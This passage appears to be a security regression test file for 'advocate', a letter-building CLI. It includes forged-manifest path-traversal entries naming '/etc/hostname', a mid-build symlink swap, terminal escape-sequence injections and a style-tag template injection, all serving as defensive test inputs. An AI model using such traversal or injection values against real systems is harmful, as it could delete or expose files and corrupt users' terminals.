    "writer.name|replace(' ', '\u00a0')",  # a non-breaking space
    "writer.email|replace('@', '\uff20')",  # a full-width at sign
    "writer.name|reverse",
    "writer.name|list|join('.')",
    "(writer.city|length > 5) and 'Long city' or 'Short city'",  # a bit about the writer
])
def test_issue13_pdf_title_depends_on_no_one(cli: Cli, title: str) -> None:
    source = (builtin_templates() / "en" / "letter.md.j2").read_text(encoding="utf-8")
    wording(cli.root, "{% set title = " + title + " %}" + source)
    result = cli.invoke(*LETTER_PDF)
    assert result.exit_code == 0, result.stderr
    reader = pypdf.PdfReader(cli.root / "out" / "letter.pdf")
    assert reader.trailer["/Info"]["/Title"] == "Justice for Kazakhstan's peaceful protesters"


# Item 4: signals end a build cleanly.

def _marked_processes(mark: str) -> list[int]:
    """Processes whose environment holds ``mark`` (the build and every worker it started)."""
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            environ = (entry / "environ").read_bytes()
        except OSError:
            continue
        if f"ADVOCATE_TEST_MARK={mark}".encode() in environ.split(b"\0"):
            found.append(int(entry.name))
    return found


def _slow_build(root: Path, mark: str) -> Any:
    """A build of 48 PDF letters by two workers, in its own process, with its own TMPDIR."""
    import subprocess
    import sys

    rows = ["name,email,city"] + [f"Person {i},p{i}@example.org,City {i}" for i in range(12)]
    write(root / "many.csv", "\n".join(rows) + "\n")
    (root / "tmp").mkdir(exist_ok=True)
    env = {**os.environ, "ADVOCATE_TEST_MARK": mark, "TMPDIR": str(root / "tmp")}
    return subprocess.Popen(
        [sys.executable, "-m", "advocate", "build", "kazakhstan-2022", "--signers", "many.csv",
         "-o", "site", "--jobs", "2", "--formats", "pdf", "--no-documents"],
        cwd=root, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _wait_for(check: Callable[[], bool], seconds: float) -> bool:
    import time

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if check():
            return True
        time.sleep(0.1)
    return check()


@pytest.mark.parametrize("signum", ["SIGTERM", "SIGHUP"])
def test_issue13_a_signal_ends_a_build_like_ctrl_c(tmp_path: Path, signum: str) -> None:
    import signal
    import uuid

    mark = uuid.uuid4().hex
    build = _slow_build(tmp_path, mark)
    site = tmp_path / "site"
    staged = lambda: any(site.glob(".advocate-staging-*/kazakhstan-2022/letters/*.pdf"))  # noqa: E731
    assert _wait_for(staged, 60), build.communicate()
    build.send_signal(getattr(signal, signum))
    _, stderr = build.communicate(timeout=60)
    assert build.returncode == 128 + getattr(signal, signum), stderr
    assert f"advocate: interrupted ({signum})" in stderr
    assert not list(site.glob(".advocate-*")), "staging folder left behind"
    assert not list(site.rglob("*.pdf"))
    assert _wait_for(lambda: not _marked_processes(mark), 10), "workers outlived the build"
    assert not list((tmp_path / "tmp").iterdir()), "temporary files left behind"


def test_issue13_workers_die_with_a_killed_build_and_the_next_removes_its_staging(
        tmp_path: Path) -> None:
    import signal
    import subprocess
    import sys
    import uuid

    mark = uuid.uuid4().hex
    build = _slow_build(tmp_path, mark)
    site = tmp_path / "site"
    staged = lambda: any(site.glob(".advocate-staging-*/kazakhstan-2022/letters/*.pdf"))  # noqa: E731
    assert _wait_for(staged, 60), build.communicate()
    build.send_signal(signal.SIGKILL)
    build.communicate(timeout=30)
    assert _wait_for(lambda: not _marked_processes(mark), 10), "workers outlived the build"
    left = list(site.glob(".advocate-staging-*"))
    assert left  # SIGKILL cannot be handled: the next build cleans up
    result = subprocess.run(
        [sys.executable, "-m", "advocate", "build", "kazakhstan-2022", "-o", "site",
         "--formats", "txt", "--no-documents"], cwd=tmp_path, capture_output=True, text=True,
        timeout=120, env={**os.environ, "TMPDIR": str(tmp_path / "tmp")})
    assert result.returncode == 0, result.stderr
    assert "removed the staging folder of an interrupted build" in result.stderr
    assert not list(site.glob(".advocate-staging-*"))


# Item 5: --force leaves nothing stale.

def _files(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize(("first", "second"), [
    (("--formats", "txt,eml"), ("--formats", "txt,eml", "--signers", "three.csv")),
    (("--formats", "txt,eml", "--signers", "six.csv"), ("--formats", "txt",
                                                        "--signers", "six.csv")),
    (("--formats", "txt,eml,md", "--signers", "six.csv"), ("--formats", "txt",)),
])
def test_issue13_force_replaces_exactly_what_the_last_build_wrote(
        cli: Cli, first: tuple[str, ...], second: tuple[str, ...]) -> None:
    rows = ["name,email,city"] + [f"Person {i},p{i}@example.org,City {i}" for i in range(6)]
    write(cli.root / "six.csv", "\n".join(rows) + "\n")
    write(cli.root / "three.csv", "\n".join(rows[:4]) + "\n")
    base = ("build", "pack/campaign.yaml", "-o", "site", "--no-documents")
    first_args = first if "--signers" in first else (*first, "--signers", "six.csv")
    assert cli.invoke(*base, *first_args).exit_code == 0
    folder = cli.root / "site" / "kazakhstan-2022"
    write(folder / "notes-of-mine.txt", "mine\n")  # not advocate's: never touched
    write(folder / "letters" / "draft-of-mine.txt", "mine\n")
    result = cli.invoke(*base, *second, "--force")
    assert result.exit_code == 0, result.stderr
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    written = {entry["path"] for entry in manifest["files"]}
    assert _files(folder) == written | {"manifest.json", "notes-of-mine.txt",
                                        "letters/draft-of-mine.txt"}


def test_issue13_force_never_removes_what_a_forged_manifest_names(cli: Cli) -> None:
    base = ("build", "pack/campaign.yaml", "-o", "site", "--no-documents", "--formats", "txt")
    assert cli.invoke(*base).exit_code == 0
    folder = cli.root / "site" / "kazakhstan-2022"
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"] += [{"path": "../../pack/campaign.yaml"}, {"path": "/etc/hostname"},
                          {"path": "letters"}]
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    assert cli.invoke(*base, "--force").exit_code == 0
    assert (cli.root / "pack" / "campaign.yaml").exists()
    assert (folder / "letters").is_dir()


# Item 6: the smaller holes.

def test_issue13_output_folder_swapped_mid_build_publishes_nothing_elsewhere(
        cli: Cli, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import advocate.build

    rows = signers(cli.root, "valid.csv")
    site, moved = cli.root / "site", cli.root / "site-real"
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    real_finish = advocate.build._CampaignOutput.finish_manifest

    def swap_then_finish(self: Any) -> None:  # after every letter is staged, before publish
        if not moved.exists():
            site.rename(moved)
            site.symlink_to(elsewhere)
        real_finish(self)

    monkeypatch.setattr(advocate.build._CampaignOutput, "finish_manifest", swap_then_finish)
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", rows, "-o", "site",
                        "--formats", "txt", "--no-documents")
    assert result.exit_code == 0, result.stderr
    assert list(elsewhere.rglob("*")) == []
    assert (moved / "kazakhstan-2022" / "letters" / "00001-president.txt").is_file()


@pytest.mark.parametrize("name", ["kazakhstan-2022"])
def test_issue13_a_bare_id_means_the_bundled_campaign(cli: Cli, name: str) -> None:
    """A file named like a bundled id in the working folder silently replaced it."""
    write(cli.root / name, "advocate: 1\nid: planted\n")
    result = cli.invoke("letter", name, "--to", "president", "--lang", "en")
    assert result.exit_code == 0, result.stderr
    assert "Tokayev" in result.stdout
    cli.refused("letter", f"./{name}", "--to", "president", expect=re.compile(name),
                place=False)


@pytest.mark.parametrize("target", ["null-link", "stdout-link", "fifo"])
def test_issue13_output_must_be_a_regular_file(cli: Cli, target: str) -> None:
    """--force turned /dev/null or /dev/stdout into a regular file when run as root. (Links
    to them, not the devices themselves: a regression must not break the machine.)"""
    path = cli.root / target
    if target == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/null" if target == "null-link" else "/proc/self/fd/1")
    before = os.lstat(path)
    cli.refused(*LETTER, "-o", target, "--force",
                expect=re.compile(r"not a regular file"), place=False)
    after = os.lstat(path)
    assert (before.st_mode, before.st_ino) == (after.st_mode, after.st_ino)


def test_issue13_dash_is_standard_output(cli: Cli) -> None:
    result = cli.invoke(*LETTER, "-o", "-")
    assert result.exit_code == 0, result.stderr
    assert "Tokayev" in result.stdout
    assert not (cli.root / "-").exists()
    result = CliRunner().invoke(app, [*LETTER, "-f", "pdf", "-o", "-"])
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes.startswith(b"%PDF-")


@pytest.mark.parametrize("key", ["\\e[31mred", "\\e]0;pwned\\a", "x\\u202ey", "\\x9b31m"])
def test_issue13_control_characters_never_reach_the_terminal(cli: Cli, key: str) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    campaign.write_text(campaign.read_text(encoding="utf-8") + f'"{key}": 1\n"{key}": 2\n',
                        encoding="utf-8")
    result = cli.invoke(*LETTER_TXT)
    assert result.exit_code == 2
    assert all(ch == "\n" or (ch.isprintable() and ch != "\u202e") for ch in result.stderr), \
        repr(result.stderr)


def test_issue13_a_lone_surrogate_is_refused_by_validate(cli: Cli) -> None:
    campaign = cli.root / "pack" / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8")
    campaign.write_text(re.sub(r"(?m)^title:.*\n(  .*\n)*", 'title: "Bad \\\\ud800 title"\n', text,
                               count=1), encoding="utf-8")
    cli.refused("validate", "pack/campaign.yaml", expect=re.compile(r"lone surrogate"))
    cli.refused(*LETTER_TXT, expect=re.compile(r"lone surrogate"))


def test_issue13_an_undecodable_argument_exits_2(tmp_path: Path) -> None:
    import subprocess
    import sys

    result = subprocess.run([sys.executable, "-m", "advocate", "validate", b"\xff.yaml"],
                            cwd=tmp_path, capture_output=True, timeout=60)
    assert result.returncode == 2, result.stderr
    assert b"not valid UTF-8" in result.stderr


def test_issue13_new_never_writes_through_a_dangling_link(cli: Cli) -> None:
    (cli.root / "free.yaml").symlink_to(cli.root / "missing" / "x.yaml")
    cli.refused("new", "free", expect=re.compile(r"free\.yaml: file exists"))
    assert not (cli.root / "missing").exists()


def test_issue13_emails_use_idna_2008() -> None:
    """IDNA 2003 made straße.de strasse.de, another domain (fixed with one validator)."""
    from advocate.schema.emails import email_key, normalise_email

    assert normalise_email("a@straße.de") == "a@xn--strae-oqa.de"
    assert email_key("a@straße.de") != email_key("a@strasse.de")


def test_issue13_a_packs_css_inside_the_built_in_index_gets_no_letter_text(cli: Cli) -> None:
    """The built-in index includes base.css.j2, which a pack may replace: then the pack's
    template runs inside the index, and the index is treated as the pack's."""
    rows = signers(cli.root, "valid.csv")
    layout(cli.root, "</style><p>{{ letters }}</p><style>", "base.css.j2")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", rows, "-o", "site",
                        "--formats", "txt", "--no-documents")
    assert result.exit_code == 0, result.stderr
    html = (cli.root / "site" / "kazakhstan-2022" / "index.html").read_text(encoding="utf-8")
    assert _csp_first(html)
    assert "mailto:" not in html
    for value in personal_data("valid.csv"):
        assert value not in html and quote(value) not in html


def test_issue13_an_unchanged_copy_of_the_templates_keeps_the_index_links(cli: Cli) -> None:
    shutil.rmtree(cli.root / "pack" / "templates")
    shutil.copytree(builtin_templates(), cli.root / "pack" / "templates")
    rows = signers(cli.root, "valid.csv")
    result = cli.invoke("build", "pack/campaign.yaml", "--signers", rows, "-o", "site",
                        "--formats", "txt", "--no-documents")
    assert result.exit_code == 0, result.stderr
    html = (cli.root / "site" / "kazakhstan-2022" / "index.html").read_text(encoding="utf-8")
    assert "mailto:" in html


def test_issue13_a_limit_is_named_even_on_a_signers_details(cli: Cli,
                                                            short_limits: None) -> None:
    """A limit's message is advocate's own wording: it is shown (not withheld) even when the
    render that hit it carried a signer's details, however the timing of a re-render goes."""
    wording(cli.root, _SORT_BOMB)
    rows = signers(cli.root, "valid.csv")
    result = cli.invoke("letter", "pack/campaign.yaml", "--to", "president", "--lang", "en",
                        "--signers", rows)
    assert result.exit_code == 2
    assert "withheld" not in result.stderr
    assert re.search(r"used more than \d+ s of CPU time|was stopped after \d+ s|"
                     r"exceeded \d+ s", result.stderr), result.stderr
